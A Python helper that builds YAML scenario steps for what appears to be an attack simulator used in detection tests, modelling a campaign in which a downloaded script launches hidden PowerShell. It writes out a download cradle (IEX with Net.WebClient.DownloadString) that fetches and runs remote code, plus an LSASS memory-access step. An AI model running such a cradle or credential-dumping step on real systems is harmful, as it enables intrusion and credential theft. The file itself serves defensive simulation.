"""The seed campaign's tradecraft as simulator scenario steps, for tests that vary where and when it runs.

A script from the user's Downloads starts PowerShell with an encoded download
cradle, which fetches a PNG loader from the campaign's domain and reads LSASS
memory (the PRODUCT.md story).  Tests give the domain, the script and the
loader; the steps are the same YAML each time.
"""

from __future__ import annotations


def cradle_steps(url: str, *, script: str = "Invoice.js", loader: str = "logo.png loader", size: int = 500000) -> str:
    r"""The YAML ``steps:`` items (indented for an activity) of a PNG cradle fetching ``url``.

    Examples
    --------
    >>> print(cradle_steps("http://x.example/a.png").splitlines()[-1])
          - {action: lsass_access, granted_access: '0x1010'}
    """
    return rf"""      - {{action: process, parent: explorer, image: 'C:\Windows\System32\wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\{{{{user}}}}\Downloads\{script}"', indicator: false}}
      - action: process
        image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
        command_line: 'powershell.exe -nop -w hidden -enc {{{{encoded}}}}'
        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('{url}')"
      - {{action: download, url: '{url}', content: {loader}, size: {size}}}
      - {{action: lsass_access, granted_access: '0x1010'}}
"""
